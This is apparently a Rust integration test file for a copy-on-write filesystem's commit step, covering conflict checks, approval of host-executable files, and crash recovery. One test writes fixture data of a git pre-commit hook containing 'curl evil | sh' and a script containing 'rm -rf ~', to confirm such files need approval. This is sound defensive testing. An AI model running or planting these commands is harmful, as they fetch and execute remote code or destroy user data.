//! `commit` never loses a host edit: the deep conflict check under a
//! directory the guest replaced, approval of files that run on the host,
//! and a commit interrupted at every point finishing whole.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};

use common::*;
use cowfs::abi::ROOT_ID;
use cowfs::client::Client;
use cowfs::{commit, recover, Approval, CommitError, CommitOptions, Recovery};

fn opts(approval: Approval) -> CommitOptions<'static> {
    CommitOptions {
        approval,
        ..Default::default()
    }
}

/// The guest replaces the folder `dir` (b.txt, sub/c.txt) with a file.
fn replace_dir_with_file(c: &mut Client) {
    c.remove_tree("dir").unwrap();
    c.create_file(ROOT_ID, b"dir", 0o644, b"now a file")
        .unwrap();
}

/// Every kind of step: a modified file, a folder replaced by a file, a
/// file replaced by a folder, a new tree, a deletion, a new mode.
fn work(c: &mut Client) {
    c.write_file("a.txt", 0, b"HELLO", false).unwrap();
    replace_dir_with_file(c);
    c.unlink(ROOT_ID, b"link").unwrap();
    let d = c.mkdir(ROOT_ID, b"link", 0o755).unwrap();
    c.create_file(d.nodeid, b"inside.txt", 0o644, b"in")
        .unwrap();
    let n = c.mkdir(ROOT_ID, b"newdir", 0o750).unwrap();
    let deep = c.mkdir(n.nodeid, b"deep", 0o755).unwrap();
    c.create_file(deep.nodeid, b"f.txt", 0o644, b"deep file")
        .unwrap();
    c.rmdir(ROOT_ID, b"empty").unwrap();
    let h = c.resolve("hard2").unwrap().nodeid;
    c.chmod(h, 0o600).unwrap();
}

/// Names in the host folder the guest never made: temporaries.
fn leftovers(t: &BTreeMap<String, Obj>) -> Vec<String> {
    t.keys()
        .filter(|k| k.split('/').any(|n| n.starts_with(".wh.")))
        .cloned()
        .collect()
}

/// A folder-for-file replacement must not make commit delete a host edit
/// deep in that folder (the conflict check only looked at deletions, and
/// a file edited in place leaves its folders' times alone).
#[test]
fn a_folder_replaced_by_a_file_keeps_deep_host_edits() {
    for host_edit in ["edit in place", "new file"] {
        let l = layers();
        let mut c = cow_client(&l);
        replace_dir_with_file(&mut c);
        match host_edit {
            "edit in place" => fs::write(l.lower.join("dir/sub/c.txt"), b"SEA").unwrap(),
            _ => fs::write(l.lower.join("dir/sub/host.txt"), b"host").unwrap(),
        }
        let before = tree_hash(&l.lower);
        let err = commit(&l.lower, &l.upper, &opts(Approval::All)).unwrap_err();
        let CommitError::Conflicts(list) = &err else {
            panic!("{host_edit}: {err}")
        };
        let want = match host_edit {
            "edit in place" => "dir/sub/c.txt",
            _ => "dir/sub/host.txt",
        };
        assert!(
            list.iter().any(|c| c.path == Path::new(want)),
            "{host_edit}: {err}"
        );
        assert_eq!(tree_hash(&l.lower), before, "{host_edit}: nothing applied");
    }
    // Without a host edit the folder goes and the file takes its place.
    let l = layers();
    let mut c = cow_client(&l);
    replace_dir_with_file(&mut c);
    commit(&l.lower, &l.upper, &opts(Approval::None)).unwrap();
    assert_eq!(fs::read(l.lower.join("dir")).unwrap(), b"now a file");
    assert_eq!(leftovers(&host_tree(&l.lower)), Vec::<String>::new());
}

#[test]
fn files_that_run_on_the_host_need_approval() {
    let l = layers();
    let mut c = cow_client(&l);
    c.create_file(ROOT_ID, b".envrc", 0o644, b"use nix")
        .unwrap();
    let git = c.mkdir(ROOT_ID, b".git", 0o755).unwrap();
    let hooks = c.mkdir(git.nodeid, b"hooks", 0o755).unwrap();
    c.create_file(hooks.nodeid, b"pre-commit", 0o644, b"curl evil | sh")
        .unwrap();
    c.write_file("exec.sh", 0, b"#!/bin/sh\nrm -rf ~\n", true)
        .unwrap();
    c.create_file(ROOT_ID, b"plain.txt", 0o644, b"fine")
        .unwrap();
    let listed: Vec<PathBuf> = [".envrc", ".git/hooks/pre-commit", "exec.sh"]
        .iter()
        .map(PathBuf::from)
        .collect();
    let before = tree_hash(&l.lower);
    let err = commit(&l.lower, &l.upper, &opts(Approval::None)).unwrap_err();
    let CommitError::NeedsApproval(got) = &err else {
        panic!("{err}")
    };
    assert_eq!(got, &listed);
    assert!(
        err.to_string()
            .contains(".envrc, .git/hooks/pre-commit, exec.sh"),
        "{err}"
    );
    // Approving only some is not enough.
    let some = Approval::These(listed[..2].iter().cloned().collect::<BTreeSet<_>>());
    let err = commit(&l.lower, &l.upper, &opts(some)).unwrap_err();
    assert!(
        matches!(&err, CommitError::NeedsApproval(p) if p == &listed[2..]),
        "{err}"
    );
    assert_eq!(tree_hash(&l.lower), before, "nothing applied");
    // A dry run lists them and needs no approval.
    let dry = CommitOptions {
        dry_run: true,
        ..Default::default()
    };
    assert_eq!(
        commit(&l.lower, &l.upper, &dry).unwrap().runs_on_host,
        listed
    );
    let all = Approval::These(listed.iter().cloned().collect());
    let r = commit(&l.lower, &l.upper, &opts(all)).unwrap();
    assert!(r.applied && r.runs_on_host == listed);
    assert_eq!(
        fs::read(l.lower.join(".git/hooks/pre-commit")).unwrap(),
        b"curl evil | sh"
    );
}

/// The host folder a whole commit of `work` leaves (without times).
fn committed_tree() -> BTreeMap<String, Obj> {
    let l = layers();
    let mut c = cow_client(&l);
    work(&mut c);
    let r = commit(&l.lower, &l.upper, &opts(Approval::All)).unwrap();
    assert!(r.applied);
    host_tree(&l.lower)
}

/// A commit stopped at each of its points (a panic from the hook, where
/// nothing after it runs, as after a kill) is finished by `recover`:
/// rolled back while staging, forward once decided; no temporary is
/// left, and the next commit works.
#[test]
fn an_interrupted_commit_finishes_whole() {
    let committed = committed_tree();
    assert_eq!(leftovers(&committed), Vec::<String>::new());
    let mut point = 1;
    loop {
        let l = layers();
        let mut c = cow_client(&l);
        work(&mut c);
        let before = host_tree(&l.lower);
        let stop = |n: u32| {
            if n == point {
                panic!("stopped at point {n}");
            }
        };
        let o = CommitOptions {
            approval: Approval::All,
            at_point: Some(&stop),
            ..Default::default()
        };
        let run = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            commit(&l.lower, &l.upper, &o)
        }));
        if let Ok(r) = run {
            // Past the last point: a whole commit.
            assert!(r.unwrap().applied);
            assert!(point > 3, "every point was reached");
            break;
        }
        let rec = recover(&l.lower, &l.upper).unwrap();
        let after = host_tree(&l.lower);
        assert_eq!(leftovers(&after), Vec::<String>::new(), "point {point}");
        if point <= 2 {
            assert_eq!(rec, Some(Recovery::RolledBack), "point {point}");
            assert_same(&format!("rolled back at {point}"), &before, &after);
        } else {
            assert_eq!(rec, Some(Recovery::RolledForward), "point {point}");
            assert_same(&format!("rolled forward at {point}"), &committed, &after);
        }
        assert_eq!(recover(&l.lower, &l.upper).unwrap(), None, "journal gone");
        // The next commit works (nothing left to do once rolled forward).
        let r = commit(&l.lower, &l.upper, &opts(Approval::All)).unwrap();
        assert!(
            r.applied && (point <= 2) != r.changes.is_empty(),
            "point {point}: {r:?}"
        );
        assert_same(
            &format!("committed after {point}"),
            &committed,
            &host_tree(&l.lower),
        );
        point += 1;
    }
}

/// Killed while writing its first journal (not yet renamed into force): the
/// commit never started; the half-written journal goes.
#[test]
fn a_half_written_journal_is_dropped() {
    let l = layers();
    let mut c = cow_client(&l);
    work(&mut c);
    let unfinished = l.upper.join(".wh..wh..tmp.commit-journal");
    fs::write(&unfinished, "mvm-cowfs-commit 1\nphase apply\nremove 61").unwrap();
    let before = host_tree(&l.lower);
    assert_eq!(recover(&l.lower, &l.upper).unwrap(), None);
    assert!(!unfinished.exists());
    assert_same("untouched", &before, &host_tree(&l.lower));
    assert!(
        commit(&l.lower, &l.upper, &opts(Approval::All))
            .unwrap()
            .applied
    );
}
